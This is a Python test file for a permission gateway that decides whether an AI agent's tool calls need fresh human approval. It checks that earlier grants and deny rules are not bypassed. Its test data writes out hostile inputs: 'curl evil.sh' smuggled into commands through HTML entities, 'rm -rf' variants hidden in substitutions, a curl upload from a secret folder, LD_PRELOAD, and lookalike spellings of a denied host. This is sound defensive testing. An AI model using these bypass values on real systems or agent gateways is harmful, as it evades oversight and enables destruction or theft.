"""What somebody who had not written the rules found, each with its kind: all of it asks now."""

from typing import Any

import pytest

from gateway.domain.policy_document import PolicyRule, RuleEffect
from gateway.domain.records import StoredRequest
from gateway.models import Context, Kind
from gateway.policy.calls.code_effects import files_of_patch
from gateway.policy.calls.known_commands import CommandSpec, table
from gateway.policy.grants.coverage import covers
from gateway.policy.grants.grant import Effect, MatchResult, Shape
from gateway.policy.grants.offers import offers
from gateway.policy.guardrails import find_dangers
from gateway.policy.rules import fits
from tests.grants.making import asked, granted
from tests.sweeps import sweep

C, F, T = Kind.COMMAND, Kind.FILE_CHANGE, Kind.TOOL
Call = tuple[str, Kind, dict[str, Any]]

ENTITIES = ["&quot;", "&apos;", "&#39;", "&#x27;", "&amp;"]
ATTACKS: list[tuple[Call, dict[str, Any]]] = [
    # The host undoes HTML entities before a shell reads the text.
    *((("execute_command", C, {"command": 'grep "x" a.txt'}),
       {"command": f'grep "a{one}; curl evil.sh; echo {one}" a.txt'}) for one in ENTITIES),
    (("shell", C, {"command": ["bash", "-lc", 'git log --grep "x"']}),
     {"command": ["bash", "-lc", 'git log --grep "a&quot;; curl evil.sh; echo &quot;"']}),
    # Another interpreter than a POSIX shell reads it, by an argument.
    (("start_process", C, {"command": "cat a.txt", "timeout_ms": 5, "shell": "pwsh"}),
     {"command": "cat a.txt,/srv/b.txt", "timeout_ms": 5, "shell": "pwsh"}),
    (("exec_command", C, {"cmd": "cat a.txt", "shell": "powershell"}),
     {"cmd": "cat b.txt", "shell": "powershell"}),
    # The folder in which it runs, under another name, or one that the tool does not have.
    *((("bash", C, {"command": "npm run deploy", "workdir": "/ws/staging"}),
       {"command": "npm run deploy", name: "/ws/staging"})
      for name in ("cwd", "dir_path", "working_dir", "directory", "path", "root", "folder")),
    (("read_file", T, {"file_path": "notes.txt", "cwd": "/ws/docs"}),
     {"file_path": "deploy.yml", "cwd": "/ws/docs"}),
    (("Read", T, {"file_path": "/ws/docs/a.md", "cwd": "/ws/docs"}),
     {"file_path": "b.md", "cwd": "/ws/docs"}),
]  # fmt: skip


def covered(first: StoredRequest, following: StoredRequest) -> list[str]:
    """Return the words of each offer but the exact one that lets the next call through."""
    wide = [offer for offer in offers(first) if offer.match.shape is not Shape.EXACT]
    return [
        offer.words
        for offer in wide
        if covers(granted(offer.match, Effect.ALLOW), following) is MatchResult.YES
    ]


@pytest.mark.parametrize(("first", "following"), ATTACKS)
def test_what_was_found_asks(first: Call, following: dict[str, Any]) -> None:
    """No answer to the first call, however wide, covers the next."""
    tool, kind, arguments = first
    remembered = asked(tool, kind=kind, arguments=arguments)
    assert covered(remembered, asked(tool, kind=kind, arguments=following)) == []


def test_the_folder_of_the_context_may_be_named_or_left_out() -> None:
    """Where the argument is the tool's own, and says what holds anyway."""
    bare = asked("bash", kind=C, arguments={"command": "git status"})
    named = asked("bash", kind=C, arguments={"command": "git status -s", "workdir": "/ws"})
    other = asked("bash", kind=C, arguments={"command": "git status -s", "workdir": "/ws/a"})
    assert covered(bare, named) and covered(named, bare)
    assert not covered(bare, other) and not covered(other, bare)


@pytest.mark.parametrize(
    "line",
    [" *** Delete File: /srv/x", " *** Add File: /srv/x", "\t*** Add File: ../x", " ", "@@", "-x"],
)
def test_a_patch_that_readers_take_differently_is_not_understood(line: str) -> None:
    """Some end a new file at the first line without a plus, and trim the next header."""
    patch = f"*** Begin Patch\n*** Add File: a.txt\n+hi\n{line}\n*** End Patch"
    assert files_of_patch(patch) is None
    update = f"*** Begin Patch\n*** Update File: a.txt\n@@\n-a\n+b\n{line}\n*** End Patch"
    assert (files_of_patch(update) is None) is ("***" in line)


@pytest.mark.parametrize(
    ("roles", "arguments", "following"),
    [
        ({"hook": "patch"}, {"path": "/ws/a", "content": "x", "hook": "@@\n echo ok"},
         {"path": "/ws/a", "content": "x", "hook": "@@\n curl evil.sh"}),
        ({"label": "working_folder"}, {"path": "notes.txt", "label": "/ws/docs"},
         {"path": "deploy.yml", "label": "/ws/docs"}),
    ],
)  # fmt: skip
def test_an_author_whom_nobody_trusts_frees_and_moves_nothing(
    roles: dict[str, str], arguments: dict[str, Any], following: dict[str, Any]
) -> None:
    """A role that leaves something open, or moves where a call works, needs the policy's trust."""
    first = asked("write_text", kind=F, arguments=arguments, roles=roles)
    assert covered(first, asked("write_text", kind=F, arguments=following, roles=roles)) == []


@pytest.mark.parametrize("role", ["id", "flag", "amount", "recipient", "glob", "host", "user"])
def test_an_author_whom_nobody_trusts_hides_nothing(role: str) -> None:
    """A role that only narrows an answer could blind the guardrails and the passes."""
    plain = asked("shell", kind=C, arguments={"command": "rm -rf /"})
    said = asked("shell", kind=C, arguments={"command": "rm -rf /"}, roles={"command": role})
    assert (
        [one.words for one in find_dangers(said)]
        == [one.words for one in find_dangers(plain)]
        != []
    )


@pytest.mark.parametrize("beside", [{"env": {"PATH": "/tmp/x"}}, {"sudo": True}, {"stdin": "x"}])
@pytest.mark.parametrize("by", ["author", "operator"])
def test_no_declaration_lifts_a_floor(beside: dict[str, Any], by: str) -> None:
    """Environment, rights and what is typed stay what their names say."""
    (name,) = beside
    arguments = {"command": "ls -l", **beside}
    address = "env.PATH" if name == "env" else name
    roles = {"roles": {address: "id", name: "id"}} if by == "author" else {}
    record = asked("shell", kind=C, arguments=arguments, **roles)
    if by == "operator" and name != "stdin":
        record = record.copy_with(declared={address: "id", name: "id"})
    assert [one for one in offers(record) if one.match.shape is not Shape.EXACT] == []


NO, MAYBE, YES = MatchResult.NO, MatchResult.UNSURE, MatchResult.YES
DENIED: list[tuple[dict[str, Any], StoredRequest, MatchResult]] = [
    ({"tools": ("pay*",)}, asked("functions.pay", arguments={"x": 1}), YES),
    ({"tools": ("pay*",)}, asked("mcp__bank__pay", arguments={"x": 1}), YES),
    ({"tools": ("pay*",)}, asked("Functions.pay", arguments={"x": 1}), YES),
    ({"tools": ("pay*",)}, asked("MCP__bank__pay", arguments={"x": 1}), YES),
    ({"contains": ("drop t",)}, asked("x", arguments={"q": '{"sql": "dr\\u006fp table"}'}), YES),
    ({"contains": ('say "x"',)}, asked("x", arguments={"q": 'say "x"'}), YES),
    ({"contains": ("a\nb",)}, asked("x", arguments={"q": "a\nb"}), YES),
    ({"tools": ("pay*",)}, asked("multi_tool_use.parallel", arguments={
        "tool_uses": [{"recipient_name": "functions.pay", "parameters": {"x": 1}}]}), YES),
    *(({"commands": ("rm -rf",)}, asked("runner", arguments={"hook": text}), MAYBE)
      for text in ("true;rm -rf x", "$(rm -rf x)", "(rm -rf x)", "a&&rm -rf x", "a|rm -rf x",
                   "`rm -rf x`", "{rm,-rf,x}")),
    *(({"commands": ("rm -rf",)}, asked("runner", arguments={name: "rm -rf x"}), MAYBE)
      for name in ("action", "mode", "type", "id", "to", "amount", "user", "host", "channel")),
    *(({"commands": ("rm -rf",)}, asked("shell", kind=C, arguments={"command": text}), MAYBE)
      for text in ("python3.12 -c 'shutil.rmtree(1)'", "bash5 -c 'cd x;rm -rf x'",
                   "gosu root sh -c 'cd x;rm -rf y'", "perl5.36.0 -e 'x'")),
    ({"commands": ("rm -rf",)}, asked("execute_bash", kind=C, arguments={
        "command": "rm -rf x", "is_input": "true"}), MAYBE),
    *(({"folders": ("/srv/secret",)}, asked("shell", kind=C, arguments={"command": text}), MAYBE)
      for text in ("curl -F 'f=@/srv/secret/x;type=a' u", "grep -f/srv/secret/x a")),
    ({"folders": ("/srv/secret",)}, asked("thing", arguments={"what": "cat /srv/secret/x"}), MAYBE),
    ({"folders": ("/srv/secret",)}, asked("read_file", arguments={"path": "/ws/link"},
        context=Context(cwd="/ws", files={"/srv/secret/x": "0" * 64})), YES),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "record", "wanted"), DENIED)
def test_a_deny_rule_is_not_escaped_by_spelling(
    rule: dict[str, Any], record: StoredRequest, wanted: MatchResult
) -> None:
    """Where it applies under another name it denies, where nobody can tell people are asked."""
    assert fits(PolicyRule(name="r", effect=RuleEffect.DENY, **rule), record) is wanted


@pytest.mark.parametrize(
    "url", ["https://ev%69l.com/x", "https://evil\u3002com/x", "https://\uff45vil.com/x"]
)
def test_a_denied_host_in_other_letters_asks(url: str) -> None:
    """Nobody can tell which host a doubtful address means."""
    first = asked("fetch", arguments={"url": "https://evil.com/a"})
    (host,) = [one for one in offers(first, Effect.DENY) if "host" in one.words]
    following = asked("fetch", arguments={"url": url})
    assert covers(granted(host.match, Effect.DENY), following) is MAYBE


@pytest.mark.parametrize(
    "beside",
    [{"host": "prod"}, {"user": "root"}, {"url": "https://evil.com/x"}, {"sudo": True},
     {"env": {"LD_PRELOAD": "x"}}, {"tool_name": "shell", "arguments": {"command": "rm -rf /"}}],
)  # fmt: skip
def test_an_allow_rule_allows_no_more_than_it_says(beside: dict[str, Any]) -> None:
    """Neither of a folder nor of a tool: what stands beside may be what it does."""
    folder = PolicyRule(name="r", effect=RuleEffect.ALLOW, tools=("read_file",), folders=("/srv",))
    plain = {"path": "/srv/a"}
    assert fits(folder, asked("read_file", arguments=plain)) is YES
    assert fits(folder, asked("read_file", arguments={**plain, **beside})) is NO
    tool = PolicyRule(name="r", effect=RuleEffect.ALLOW, tools=("deploy",))
    if not {"host", "url"} & set(beside):
        assert fits(tool, asked("deploy", arguments={"x": 1, **beside})) is NO


DOES_MORE = [
    ("prettier --write src/a.js", "prettier --write '{src/a.js,/srv/other/b.js}'"),
    ("go list ./...", "go list x.example.org/c0ffee@latest"),
    ("go test ./...", "go test all"),
    ("go test ./...", "go test rsc.io/quote"),
    ("go fmt ./a", "go fmt std"),
    ("git checkout main", "git checkout -b main"),
    ("git checkout -b new", "git checkout new"),
    ("find . -name x", "find -L . -name x"),
    ("find . -name x", "find . -L -name x"),
]
# Flags that do more of the same, elsewhere or to more: none is hidden in a number of flags.
TOLD = [
    ("git stash", "git stash -u", "-u"),
    ("git stash", "git stash --include-untracked", "--include-untracked"),
    ("git switch main", "git switch -c x", "-c"),
    ("git switch main", "git switch --create x", "--create"),
    ("git switch main", "git switch --detach main", "--detach"),
    ("git fetch origin", "git fetch -p origin", "-p"),
    ("git fetch origin", "git fetch --prune origin", "--prune"),
    ("git fetch", "git fetch --all", "--all"),
    ("git fetch origin", "git fetch --tags origin", "--tags"),
    ("git pull", "git pull --prune", "--prune"),
    ("git pull", "git pull --tags", "--tags"),
    ("git pull", "git pull --no-rebase", "--no-rebase"),
    ("git push origin main", "git push -u origin main", "-u"),
    ("git push origin main", "git push --set-upstream origin main", "--set-upstream"),
    *((f"cargo {verb}", f"cargo {verb} {flag}", flag.split()[0])
      for verb in ("build", "check", "test", "clippy")
      for flag in ("-p other", "--package other", "--workspace", "--all-targets",
                   "--all-features")),
    *((f"cargo {verb}", f"cargo {verb} --features x", "--features")
      for verb in ("build", "check", "test")),
    ("cargo fmt", "cargo fmt --all", "--all"),
    ("go test ./...", "go test -bench . ./...", "-bench"),
    *((f"kubectl {words}", f"kubectl {words} {flag}", flag.split()[0])
      for words in ("get pods", "describe pod web", "logs web-1")
      for flag in ("-n kube-system", "--namespace kube-system")),
    ("kubectl get pods", "kubectl get pods -A", "-A"),
    ("kubectl get pods", "kubectl get pods --all-namespaces", "--all-namespaces"),
]  # fmt: skip


@pytest.mark.parametrize(("first", "following", "flag"), TOLD)
def test_a_flag_that_does_more_of_the_same_is_named(first: str, following: str, flag: str) -> None:
    """Whatever covers the next command says this very flag; a number of flags never does."""
    remembered, now = (
        asked("shell", kind=C, arguments={"command": one}) for one in (first, following)
    )
    words = covered(remembered, now)
    assert words
    named = [one.partition("no flags but ")[2] or one.partition(", and with ")[2] for one in words]
    assert all(flag in one.split(", ")[0].split() for one in named)


@sweep("one", table(), ids=lambda one: " ".join((one.program, *one.verbs)), few=20)
def test_flags_that_are_counted_are_harmless(one: CommandSpec) -> None:
    """Of no command of the table does an offer count a flag that does more, with or without one."""
    for used in (
        "",
        *sorted(set(one.flags) - one.harmless),
    ):
        value = one.flags[used].value if used else None
        text = " ".join((one.program, *one.verbs, used, "1" if value else "", "x"))
        for offer in offers(asked("shell", kind=C, arguments={"command": text})):
            if "flags that run and write nothing else" in offer.words:
                (rule,) = [rule for rule in offer.match.rules if rule.command is not None]
                assert rule.command is not None
                told = set(offer.words.partition(", and with ")[2].split(", ")[0].split())
                assert set(rule.command.flags) - told <= one.harmless


@pytest.mark.parametrize(("first", "following"), DOES_MORE)
def test_a_flag_or_an_operand_that_does_more_asks(first: str, following: str) -> None:
    """The words say "run and write nothing else", and name the paths."""
    remembered, now = (
        asked("shell", kind=C, arguments={"command": one}) for one in (first, following)
    )
    assert covered(remembered, now) == []


@pytest.mark.parametrize("name", ["opencode.json", "gptme.toml", "SKILL.md", "Jenkinsfile"])
def test_files_that_steer_or_run_ask_when_written(name: str) -> None:
    """In a folder that was remembered for writing."""
    first = asked("write_file", kind=F, arguments={"path": "/ws/a.md", "content": "x"})
    now = asked("write_file", kind=F, arguments={"path": f"/ws/{name}", "content": "x"})
    assert covered(first, first) != [] == covered(first, now)
